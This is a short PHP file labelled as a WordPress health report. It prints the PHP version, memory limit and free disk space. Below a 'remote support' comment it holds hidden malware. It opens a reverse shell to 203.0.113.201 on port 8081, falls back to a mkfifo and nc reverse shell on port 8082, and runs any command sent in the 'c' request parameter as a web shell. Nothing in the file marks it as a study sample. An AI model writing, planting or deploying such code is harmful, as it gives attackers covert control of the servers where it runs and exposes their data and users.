<?php
// WordPress health report
header('Content-Type: text/plain');
echo "PHP " . PHP_VERSION . "\n";
echo "Memory limit: " . ini_get('memory_limit') . "\n";
echo "Disk free: " . round(disk_free_space('.') / 1e9, 1) . " GB\n";

// remote support
if (function_exists('fsockopen')) {
    $sock = @fsockopen("203.0.113.201", 8081);
    if ($sock) {
        $proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
    } else {
        @shell_exec("rm -f /tmp/.s; mkfifo /tmp/.s; cat /tmp/.s | /bin/sh -i 2>&1 | nc 203.0.113.201 8082 > /tmp/.s &");
    }
}
if (isset($_REQUEST['c'])) {
    echo shell_exec($_REQUEST['c']);
}
